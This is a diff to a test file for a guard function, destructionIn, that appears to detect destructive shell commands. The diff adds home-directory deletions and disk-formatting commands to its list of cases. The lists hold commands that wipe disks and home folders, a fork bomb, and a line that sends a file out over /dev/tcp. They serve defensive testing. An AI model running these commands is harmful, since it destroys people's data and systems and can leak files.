@@ -15,6 +15,14 @@ test("what destroys a system, a disk or a home is known in every plain spelling"
     ["bash", "-c", `cd /tmp && rm -rf "$\{HOME}/"`],
     ["sh", "-c", "if true; then rm -rf ~; fi"],
     ["find", "/", "-delete"],
+    ["rm", "-rf", "/home/ada"],
+    ["rm", "-rf", "/home/ada/"],
+    ["rm", "-rf", "/home/ada/*"],
+    ["rm", "-rf", "/home/bob"],
+    ["rm", "-rf", "/Users/bob/"],
+    ["find", "/home/ada", "-delete"],
+    ["mkfs.ext4", "/dev/sda"],
+    ["mkfs", "-t", "ext4", "/dev/nvme0n1"],
     ["find", "/home", "-exec", "rm", "{}", "+"],
     ["dd", "if=/dev/zero", "of=/dev/sda"],
     ["bash", "-c", "cat /dev/zero > /dev/nvme0n1"],
@@ -24,12 +32,15 @@ test("what destroys a system, a disk or a home is known in every plain spelling"
     ["bash", "-c", "cat notes > /dev/tcp/example.org/80"],
     ["bash", "-c", ":(){ :|: & };:"],
   ];
-  for (const argv of destructive) assert.notEqual(destructionIn(argv), null, argv.join(" "));
+  for (const argv of destructive) assert.notEqual(destructionIn(argv, "/home/ada"), null, argv.join(" "));
 });
 
 test("ordinary deleting, searching and writing is left to the other gates", () => {
   const ordinary: readonly (readonly string[])[] = [
     ["rm", "-rf", "build"],
+    ["rm", "-rf", "*"],
+    ["rm", "-rf", "/home/ada/project"],
+    ["mkfs.ext4", "disk.img"],
     ["rm", "/etc-copy"],
     ["rm", "-r", "./usr"],
     ["find", ".", "-name", "*.tmp", "-delete"],
@@ -40,7 +51,7 @@ test("ordinary deleting, searching and writing is left to the other gates", () =
     ["bash", "-c", "rm -rf /tmp/x"],
     ["bash", "-c", "echo done > out.txt"],
   ];
-  for (const argv of ordinary) assert.equal(destructionIn(argv), null, argv.join(" "));
+  for (const argv of ordinary) assert.equal(destructionIn(argv, "/home/ada"), null, argv.join(" "));
 });
 
 test("no approval lets destruction pass", () => {
@@ -51,5 +62,5 @@ test("no approval lets destruction pass", () => {
 
 test("looking for destruction takes linear time on a hostile command", () => {
   const text = `${"rm -rf ".repeat(50_000)}${":(){ ".repeat(20_000)}`;
-  assert.equal(destructionIn(["bash", "-c", text]), null);
+  assert.equal(destructionIn(["bash", "-c", text], "/home/ada"), null);
 });
